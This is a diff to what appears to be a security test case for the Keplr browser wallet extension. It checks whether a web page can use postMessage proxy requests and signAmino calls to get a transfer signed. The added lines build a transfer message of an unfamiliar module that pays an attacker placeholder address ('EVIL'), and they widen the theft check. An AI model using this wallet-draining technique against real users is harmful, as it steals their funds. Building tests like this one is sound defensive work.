@@ -1,4 +1,5 @@
-// G07: the page speaks to Keplr's content script itself, which looks at nothing but the type.
+// G07: the page speaks to Keplr's content script itself, which looks at nothing but the type: a payment, and a message of a module that
+// nobody knows, whose payee is no account of the chain.
 import { reachedWallet } from './logs.mjs';
 
 export default {
@@ -26,6 +27,12 @@ export default {
     const args = ['cosmoshub-4', a.users.cosmos, { ...doc, msgs }];
     window.postMessage({ type: 'proxy-request', id: '7', method: 'signAmino', args }, location.origin);
     postMessage({ type: 'proxy-request', id: '8', method: 'signAmino', args }, { targetOrigin: '*' });
+    const amount = { denom: 'inj', amount: '5' };
+    const foreign = { destination_subaccount_id: a.EVIL + '0'.repeat(24), amount };
+    args[2] = { ...doc, msgs: [{ type: 'exchange/MsgExternalTransfer', value: foreign }] };
+    postMessage({ type: 'proxy-request', id: '9', method: 'signAmino', args }, location.origin);
+    const sent = window.keplr.signAmino('cosmoshub-4', a.users.cosmos, args[2]).catch((error) => error.code);
+    await Promise.race([sent, new Promise((resolve) => setTimeout(resolve, 500))]);
     await new Promise((resolve) => setTimeout(resolve, 200));
   },
 
@@ -45,7 +52,7 @@ export default {
     const msgs = [{ type: 'cosmos-sdk/MsgSend', value }];
     await window.keplr.signAmino('cosmoshub-4', a.users.cosmos, { ...doc, msgs });
   },
-  stolen: ({ wallet, a }) => reachedWallet(wallet, a.others.cosmos.EVIL),
+  stolen: ({ wallet, a }) => reachedWallet(wallet, a.others.cosmos.EVIL) || reachedWallet(wallet, a.EVIL),
   arrived: ({ wallet, a }) => reachedWallet(wallet, a.others.cosmos.GOOD),
   violation: (a) => ({ surface: 'postmessage', account: a.others.cosmos.EVIL }),
 };
